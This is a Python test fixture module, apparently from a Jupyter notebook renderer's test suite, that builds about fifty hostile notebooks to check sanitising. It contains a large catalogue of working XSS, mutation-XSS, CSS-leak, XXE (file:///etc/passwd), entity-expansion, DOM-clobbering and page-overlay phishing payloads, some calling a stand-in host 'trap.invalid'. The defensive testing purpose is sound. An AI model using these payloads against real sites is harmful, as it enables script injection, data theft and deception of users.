"""Fifty notebooks that want to run a script, send a request, or show what is not there.

``TRAP`` in them stands for the address of a server that counts who asks it, ``RUN`` for a script that leaves marks.
"""
# ruff: noqa: E501 - what an attack looks like does not break well

import base64
import copy
import json
from collections.abc import Mapping
from typing import Any

from tests.notebook.shown import PNG, code, display, encoded, notebook, stream

Notebook = dict[str, Any]

TRAP = "http://trap.invalid"
MARK = "owned"
RUN = f"window.__{MARK}=1;document.title='{MARK}';fetch('{TRAP}/script')"
COVER = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#f00"

_SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
_IMG = f'<img src=x onerror="{RUN}">'
_BASE64_SCRIPT = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()


def markdown(source: str, **fields: Any) -> dict[str, Any]:
    return {"cell_type": "markdown", "source": source, "metadata": {}, **fields}


def html(*pieces: str) -> Notebook:
    """Each piece as an output, as Markdown, as code, and as its text."""
    return notebook(
        *(code(piece, display({"text/html": piece, "text/plain": piece})) for piece in pieces),
        *(markdown(piece) for piece in pieces),
        code("", stream("".join(pieces)), *(display({"text/markdown": piece}) for piece in pieces)),
    )


def svg(*pieces: str) -> Notebook:
    """Each piece as an image, and as HTML."""
    return notebook(
        *(code("draw()", display({"image/svg+xml": piece, "text/html": piece})) for piece in pieces),
        markdown("![](attachment:a.svg)", attachments={"a.svg": {"image/svg+xml": pieces[0]}}),
    )


def image(mime: str, data: str) -> Notebook:
    return notebook(code("draw()", display({mime: data}), display({mime: [data], "text/plain": data[:50]})))


HOSTILE: Mapping[str, Notebook] = {
    "script in Markdown": notebook(markdown(f"# hello\n<script>{RUN}</script>\n\n[x](javascript:{RUN}) {_IMG}")),
    "script in HTML": html(
        f"<script>{RUN}</script>", f"<SCRIPT SRC={TRAP}/a.js></SCRIPT>", f"<script/x>{RUN}</script >"
    ),
    "module and other scripts": html(
        f"<script type=module>{RUN}</script>",
        f'<script type=importmap>{{"imports":{{"a":"{TRAP}/m.js"}}}}</script><script type=module>import "a"</script>',
        f'<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{TRAP}/p"]}}]}}</script>',
    ),
    "handlers of events": html(
        _IMG,
        f'<body onload="{RUN}">',
        f'<b onmouseover="{RUN}" onclick="{RUN}">x</b>',
        f'<details open ontoggle="{RUN}">x</details>',
        f'<div style="animation:a 1s" onanimationstart="{RUN}">x</div><style>@keyframes a{{to{{left:0}}}}</style>',
        f'<video><source onerror="{RUN}"></video><audio src=x onerror="{RUN}">',
        f'<marquee onstart="{RUN}">x</marquee>',
        f'<div onpointerrawupdate="{RUN}" oncontentvisibilityautostatechange="{RUN}" style="content-visibility:auto">x</div>',
    ),
    "forms with autofocus": html(
        f'<form action="{TRAP}/form"><input autofocus onfocus="{RUN}" name=a><button>x</button></form>',
        f'<button formaction="javascript:{RUN}" form=f>x</button><form id=f></form>',
        f'<select autofocus onfocus="{RUN}"><option>x</select><textarea autofocus onfocus="{RUN}"></textarea>',
        f'<form action="{TRAP}/submit" id=g><input type=image src="{TRAP}/i.png"></form><script>g.submit()</script>',
    ),
    "links to scripts": html(
        f'<a href="javascript:{RUN}">x</a>',
        f'<a href="JaVaScRiPt:{RUN}">x</a>',
        f'<a href=" &#1; javascript:{RUN}">x</a>',
        f'<a href="java&#10;script:{RUN}">x</a>',
        f'<a href="java&Tab;script&colon;{RUN}">x</a>',
        f'<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;{RUN}">x</a>',
        f'<area href="javascript:{RUN}"><map name=m><area shape=default href="javascript:{RUN}"></map><img usemap=#m>',
    ),
    "links to data": html(
        f'<a href="data:text/html;base64,{_BASE64_SCRIPT}">x</a>',
        f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
        f'<a href="data:image/svg+xml;base64,{_BASE64_SCRIPT}">x</a>',
        "<a href=\"blob:http://localhost/x\">x</a><a href='filesystem:http://localhost/x'>x</a>",
    ),
    "links to other schemes": html(
        f'<a href="vbscript:msgbox(1)">x</a><a href="view-source:{TRAP}">x</a><a href="file:///etc/passwd">x</a>',
        '<a href="livescript:1">x</a><a href="about:blank">x</a><a href="ms-word:ofe|u|x">x</a>',
        '<a href="//trap.invalid/x">x</a><a href="\\\\trap.invalid\\x">x</a><a href="/x">x</a><a href="?x">x</a>',
    ),
    "links that ping and open": html(
        f'<a href="#change-1" ping="{TRAP}/ping">x</a>',
        f'<a href="#change-1" target=_top download="x" onclick="{RUN}">x</a>',
        f'<a href="mailto:a@b.invalid?body=x" ping="{TRAP}/ping">x</a>',
    ),
    "images that load": html(
        f'<img src="{TRAP}/a.png"><img srcset="{TRAP}/b.png 2x" sizes=1px><img lowsrc="{TRAP}/c.png">',
        f'<picture><source srcset="{TRAP}/d.png"><img src=x></picture><input type=image src="{TRAP}/e.png">',
        f'<img src="//trap.invalid/f.png"><image href="{TRAP}/g.png"><img src="\\\\trap.invalid\\h.png">',
        f'<table background="{TRAP}/i.png"><tr><td background="{TRAP}/j.png">x</table><body background="{TRAP}/k.png">',
    ),
    "images of data that are none": html(
        f'<img src="data:text/html;base64,{_BASE64_SCRIPT}">',
        f'<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>\'>',
        f'<img src="data:image/png;base64,{_BASE64_SCRIPT}" onload="{RUN}" onerror="{RUN}">',
        f'<embed src="data:text/html;base64,{_BASE64_SCRIPT}"><object data="data:text/html,<script>{RUN}</script>"></object>',
    ),
    "frames": html(
        f'<iframe src="javascript:{RUN}"></iframe><iframe src="{TRAP}/frame"></iframe>',
        f"<iframe srcdoc=\"<script>parent.document.title='{MARK}';parent.__{MARK}=1</script>\"></iframe>",
        f'<frameset onload="{RUN}"><frame src="{TRAP}/f"></frameset><fencedframe src="{TRAP}/f"></fencedframe>',
        f'<portal src="{TRAP}/p"></portal>',
    ),
    "objects": html(
        f'<object data="{TRAP}/o" type="text/html"></object><embed src="{TRAP}/e"><applet code="{TRAP}/a"></applet>',
        f'<object><param name=movie value="{TRAP}/m.swf"></object>',
    ),
    "refreshing elsewhere": html(
        f'<meta http-equiv=refresh content="0;url={TRAP}/refresh">',
        f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
        '<meta http-equiv=Set-Cookie content="a=b"><meta name=referrer content=unsafe-url>',
    ),
    "a weaker policy": html(
        "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline' 'unsafe-eval'\">" + _IMG,
        f"</head><meta http-equiv=Content-Security-Policy content='script-src *'><script src={TRAP}/s.js></script>",
    ),
    "another base": html(f'<base href="{TRAP}/" target=_top>', f'<base href="javascript:{RUN}//"><a href="/x">x</a>'),
    "links to resources": html(
        f'<link rel=stylesheet href="{TRAP}/s.css"><link rel=prefetch href="{TRAP}/p"><link rel=preload as=image href="{TRAP}/i">',
        f'<link rel=icon href="{TRAP}/icon"><link rel=manifest href="{TRAP}/m"><link rel=dns-prefetch href="//trap.invalid">',
        f'<link rel=modulepreload href="{TRAP}/m.js"><link rel=preconnect href="{TRAP}"><link rel=import href="{TRAP}/i">',
    ),
    "style that loads": html(
        f"<style>@import url({TRAP}/i.css);body{{background:url({TRAP}/b.png)}}</style>",
        f"<style>@font-face{{font-family:a;src:url({TRAP}/f.woff)}}*{{font-family:a}}</style>",
        f'<div style="background:url({TRAP}/c.png);list-style:url({TRAP}/l.png);cursor:url({TRAP}/d.cur),auto">x</div>',
        f'<p style="background:image-set(url({TRAP}/e.png) 1x)">x</p><div style="content:url({TRAP}/g.png)">x</div>',
    ),
    "style that reads the page": html(
        "".join(f"<style>a[href^='#change-{n}']{{background:url({TRAP}/leak{n})}}</style>" for n in range(5))
    ),
    "style that covers the page": html(
        f'<div style="{COVER}">You have been logged out.</div>',
        f"<style>section{{{COVER}}}body::before{{content:'x';{COVER}}}</style>",
        f'<div class="cover" id=cover>x</div><style>.cover{{{COVER}}}</style>',
        '<div style="margin-top:-5000px;height:9000px;transform:scale(99);position:absolute;inset:0">x</div>',
    ),
    "classes of the page itself": html(
        '<div class="cell changed rows code boundary unchanged">x</div><section id="change-1" class=cell>x</section>',
        '<header class=page style="position:sticky;top:0">x</header><nav class=changes>x</nav><main>x</main>',
    ),
    "a dialog on top": html(
        "<dialog open>x</dialog><div popover id=p>x</div><button popovertarget=p>x</button>",
        '<details open><summary style="position:fixed;inset:0">x</summary></details>',
    ),
    "tags that end the page": html(
        "</div></div></section></main></body></html>" + _IMG,
        "</details></pre></code></td></tr></table></p></span></del></ins>" + _IMG,
        "</title></style></script></textarea></noscript></template>" + _IMG,
        "<table><tr><td></table></div></section>x<li>x<dd>x<p>x<h1>x",
    ),
    "tags that never end": html(
        "<b><i><u><s><a href=http://a.invalid/><del><ins><mark><code><pre><table><tr><td>", "<div>" * 3_000
    ),
    "dangling markup": html(
        f"<img src='{TRAP}/?",
        f'<a href="{TRAP}/?x',
        "<!-- ",
        f"<textarea><form action={TRAP}/t>",
        "<plaintext>",
        "<xmp>",
        "<![CDATA[",
    ),
    "comments": html(
        f"<!--><script>{RUN}</script>-->",
        f"<!-- --!><script>{RUN}</script>-->",
        f"<!--[if IE]><script>{RUN}</script><![endif]-->",
        "<!-- <img src='--><img src=x onerror=" + RUN + ">'>",
    ),
    "mutations through foreign content": html(
        f'<svg></p><style><a id="</style>{_IMG}">',
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
        f"<form><math><mtext></form><form><mglyph><style></math>{_IMG}",
        f"<svg><desc><table><thead><style><!--</style>{_IMG}",
        f"<math><annotation-xml encoding='text/html'><style><img src=x onerror={RUN}></style></annotation-xml></math>",
    ),
    "mutations through raw text": html(
        f'<noscript><p title="</noscript>{_IMG}">',
        f'<noembed><img title="</noembed>{_IMG}"></noembed>',
        f'<template><p title="</template>{_IMG}"></template>',
        f"<select><style></select>{_IMG}</style></select>",
        f'<textarea><p title="</textarea>{_IMG}">',
        f'<xmp><p title="</xmp>{_IMG}">',
        f'<title><p title="</title>{_IMG}">',
    ),
    "mutations through nesting": html(
        f"<a>{'<b>' * 600}<table><a>{_IMG}",
        f"{'<div>' * 520}<table><tr><td><svg><style><!--</style>{_IMG}",
        f"<p><table><p><h1><table><td><li><h2>{_IMG}",
    ),
    "shadow trees": html(
        f"<div><template shadowrootmode=open><script>{RUN}</script>{_IMG}<style>:host{{{COVER}}}</style></template></div>"
    ),
    "names that clobber": html(
        "<a id=title name=title href=http://a.invalid/>x</a><img name=body><img id=location><form id=document name=forms><input name=attributes></form>",
        f"<a id=__{MARK} name=__{MARK}>x</a><img name=getElementById><iframe name=__{MARK}></iframe>",
    ),
    "template tags": html(
        "{{constructor.constructor('" + RUN.replace("'", "\\'") + "')()}}",
        "${window.__owned=1}",
        "<% owned %>",
        "{% include 'x' %}",
        f"[[{RUN}]]",
        "<div ng-app ng-csp>{{1}}</div><div v-html=x x-data @click=x></div>",
        "%s %(title)s {title} {0.__class__} $title",
    ),
    "SVG with scripts": svg(
        f"<svg {_SVG} onload=\"{RUN}\"><script>{RUN}</script><rect width='9' height='9' onclick=\"{RUN}\"/></svg>",
        f"<svg {_SVG}><script xlink:href='{TRAP}/s.js'/><a xlink:href=\"javascript:{RUN}\"><text y='9'>x</text></a></svg>",
        f"<svg {_SVG}><animate attributeName='href' values=\"javascript:{RUN}\" onbegin=\"{RUN}\"/><set attributeName='onload' to='x'/></svg>",
    ),
    "SVG with foreign objects": svg(
        f"<svg {_SVG}><foreignObject width='100' height='100'><body xmlns='http://www.w3.org/1999/xhtml'><iframe src='{TRAP}/f'/>"
        f"<img src='x' onerror=\"{RUN}\"/></body></foreignObject></svg>",
        f"<svg {_SVG}><foreignObject><script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script></foreignObject></svg>",
    ),
    "SVG that loads": svg(
        f"<svg {_SVG}><image xlink:href='{TRAP}/i.png' width='9' height='9'/><use xlink:href='{TRAP}/u.svg#a'/></svg>",
        f"<?xml-stylesheet href='{TRAP}/s.css'?><svg {_SVG}><style>@import '{TRAP}/t.css';*{{fill:url({TRAP}/f#a)}}</style></svg>",
        f"<svg {_SVG}><rect style='fill:url({TRAP}/g#a)' filter='url({TRAP}/h#a)' width='9' height='9'/><feImage href='{TRAP}/j'/></svg>",
    ),
    "SVG with entities": svg(
        "<!DOCTYPE svg [<!ENTITY a 'aaaaaaaaaa'>"
        + "".join(f"<!ENTITY {chr(98 + n)} '" + f"&{chr(97 + n)};" * 10 + "'>" for n in range(9))
        + f"]><svg {_SVG}><text>&j;</text></svg>",
        f"<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg {_SVG}><text>&x;</text></svg>",
        f"<!DOCTYPE svg SYSTEM '{TRAP}/svg.dtd'><svg {_SVG}/>",
    ),
    "SVG that draws without end": svg(
        f"<svg {_SVG}><g id='a0'><rect width='1' height='1'/></g>"
        + "".join(f"<g id='a{n + 1}'>" + f"<use xlink:href='#a{n}'/>" * 10 + "</g>" for n in range(12))
        + "</svg>",
        f"<svg {_SVG}><g id='a'><use href='#b'/></g><g id='b'><use href='#a'/></g></svg>",
        f"<svg {_SVG} width='99999999' height='99999999'>{'<g>' * 5_000}</svg>",
    ),
    "images that are no images": notebook(
        code(
            "a",
            *(
                display({mime: value})
                for mime in ("image/png", "image/svg+xml", "image/x-icon", "image/*")
                for value in ("!!", "", encoded(f"<script>{RUN}</script>".encode()), _IMG, "data:text/html," + _IMG)
            ),
        )
    ),
    "images that are enormous": image("image/png", encoded(PNG[:16] + (99_999).to_bytes(4, "big") * 2 + PNG[24:])),
    "MIME types that break out": notebook(
        code(
            "a",
            *(
                display({mime: _IMG, "text/plain": mime})
                for mime in (
                    f'"><script>{RUN}</script>',
                    f"image/png;base64,\"><img src=x onerror='{RUN}'>",
                    "text/html;charset=utf-7",
                    "image/svg+xml;x",
                    "application/xhtml+xml",
                    "text/xml",
                    "text/vnd.x+html",
                    f"image/png' onerror='{RUN}",
                    "\u202etxt/html",
                    "x" * 5_000,
                )
            ),
        )
    ),
    "LaTeX": notebook(
        markdown(
            f"$\\href{{javascript:{RUN}}}{{x}}$ $\\unicode{{<script>{RUN}</script>}}$ $$\\style{{{COVER}}}{{x}}$$"
        ),
        code(
            "",
            display(
                {
                    "text/latex": f"$\\href{{javascript:{RUN}}}{{x}}$<script>{RUN}</script>",
                    "application/x-tex": "\\includegraphics{" + TRAP + "/x.png}",
                }
            ),
        ),
    ),
    "JavaScript": notebook(
        code(
            "%%javascript\n" + RUN,
            display({"application/javascript": RUN, "text/javascript": RUN, "application/ecmascript": RUN}),
        )
    ),
    "widgets": notebook(
        code(
            "",
            display(
                {
                    "application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{_IMG}", _IMG: _IMG},
                    "text/html": f"<script type='application/vnd.jupyter.widget-view+json'>{RUN}</script>",
                }
            ),
        ),
        widgets={"application/vnd.jupyter.widget-state+json": {"state": {_IMG: {"model_module": TRAP, _IMG: [_IMG]}}}},
    ),
    "JSON": notebook(
        code(
            "",
            display(
                {
                    "application/json": {
                        _IMG: [_IMG, {"</td></tr></table>": f"<script>{RUN}</script>"}],
                        "__proto__": {"x": _IMG},
                    },
                    "application/vnd.plotly.v1+json": {
                        "data": [{"text": _IMG, "customdata": [_IMG] * 300}],
                        "layout": {"title": _IMG},
                    },
                    "application/geo+json": f"<script>{RUN}</script>",
                    "application/vnd.vegalite.v5+json": {"data": {"url": TRAP}},
                }
            ),
        )
    ),
    "tables": html(
        f"<table><tr><th onclick='{RUN}'>{_IMG}<th colspan=9999999 rowspan=9999999><script>{RUN}</script></tr>"
        f"<tr><td>{_IMG}&lt;script&gt;{RUN}&lt;/script&gt;<td style='{COVER}'>x</table>",
        f"<table><td>a</td></table>{_IMG}<table><caption>{_IMG}<colgroup span=9999><col span=9999></table>",
    ),
    "errors with colours": notebook(
        code(
            "1/0",
            {
                "output_type": "error",
                "ename": _IMG,
                "evalue": f"<script>{RUN}</script>",
                "traceback": [
                    f"\x1b[31m{_IMG}\x1b]8;;javascript:{RUN}\x07x\x1b]8;;\x07\x1b[0m",
                    f"\x1b]0;{MARK}\x07<script>{RUN}</script>",
                ],
            },
        )
    ),
    "names everywhere": {
        **notebook(
            {
                "cell_type": f"<script>{RUN}</script>",
                "id": f'"><script>{RUN}</script>',
                "source": _IMG,
                "metadata": {_IMG: _IMG},
                "execution_count": _IMG,
                "outputs": [
                    {"output_type": _IMG, "data": {_IMG: _IMG}},
                    {"output_type": "stream", "name": _IMG, "text": _IMG},
                ],
            },
            **{
                _IMG: {f'"><script>{RUN}</script>': _IMG},
                "kernelspec": {"name": _IMG, "language": _IMG, "display_name": _IMG},
            },
            language_info={"name": _IMG, "pygments_lexer": _IMG, "file_extension": _IMG},
        ),
        "nbformat": _IMG,
        "nbformat_minor": _IMG,
    },
    "attachments": notebook(
        markdown(
            f"![x](attachment:{_IMG})",
            attachments={
                _IMG: {"image/png": encoded(PNG), "text/html": _IMG},
                "../../x.svg": {"image/svg+xml": f'<svg {_SVG} onload="{RUN}"/>'},
                f"a' onload='{RUN}": {"image/png": _IMG},
            },
        )
    ),
    "characters that deceive": html(
        "\u202eevil\u202c \u2066x\u2069 \u200b\ufeff \x00\x08\x1b[31m \ud800 \udfff \ufffe \U000e0041",
        "&#x202E;gnp.exe <bdo dir=rtl>txt</bdo> <p dir=rtl>x</p>",
        "\u0338\u0489" * 2_000,
        "a" + "\u0301" * 5_000,
        f"\u2028<script>{RUN}</script>\u2029 \x0c<img\x0csrc=x\x0conerror={RUN}>",
        f"<\x00script>{RUN}</\x00script>",
    ),
    "encodings that deceive": html(
        "+ADw-script+AD4-window.__owned=1+ADw-/script+AD4-",
        "\u00bcscript\u00bewindow.__owned=1\u00bc/script\u00be",
        "%3Cscript%3E &lt;script&gt; &amp;lt;script&amp;gt; &#60;script&#62; \\u003cscript\\u003e \\x3cscript\\x3e",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<<script>{RUN}//<</script>",
        f"<img/src='x'/onerror={RUN}/>",
        f'<IMG """><SCRIPT>{RUN}</SCRIPT>">',
    ),
    "texts that are too long": notebook(
        code(
            "x" * 500_000,
            display({"text/html": f'<img alt="{"a" * 300_000}" src="data:image/png;base64,{encoded(PNG)}">'}),
        ),
        code("\n" * 50_000, stream("&<>\"'" * 100_000), display({"text/html": f"<p title='{'b' * 300_000}'>x</p>"})),
        markdown("&" * 200_000, attachments={"n" * 100_000: {"m" * 100_000: "x"}}),
        **{"k" * 100_000: "v"},
    ),
}


def changed(hostile: Notebook) -> Notebook:
    """A copy in which whatever holds text holds a little more, so that all of it has changed."""
    twin = copy.deepcopy(hostile)
    for cell in twin["cells"]:
        cell["source"] += "\n" + _IMG
        cell["metadata"] = {**cell.get("metadata", {}), _IMG: RUN}
        for bundle in [output.get("data", {}) for output in cell.get("outputs", [])] + list(
            cell.get("attachments", {}).values()
        ):
            for mime, value in bundle.items():
                bundle[mime] = _more(value)
        for output in cell.get("outputs", []):
            for key in ("text", "evalue"):
                if key in output:
                    output[key] += _IMG
    twin["metadata"] = {**twin["metadata"], "title": _IMG}
    return twin


def _more(value: Any) -> Any:
    match value:
        case str() if value.rstrip().endswith("</svg>"):
            return value.rstrip().removesuffix("</svg>") + f"<circle r='9' onclick=\"{RUN}\"/></svg>"
        case str():
            return value + f"<p>{_IMG}</p>"
        case dict():
            return {**value, "more": _IMG}
        case list():
            return [*value, _IMG]
    return value


def pointed(hostile: Notebook, trap: str) -> Notebook:
    """A copy whose requests would go to a server that is there."""
    found: Notebook = json.loads(
        json.dumps(hostile).replace(TRAP, trap).replace("trap.invalid", trap.removeprefix("http://"))
    )
    return found
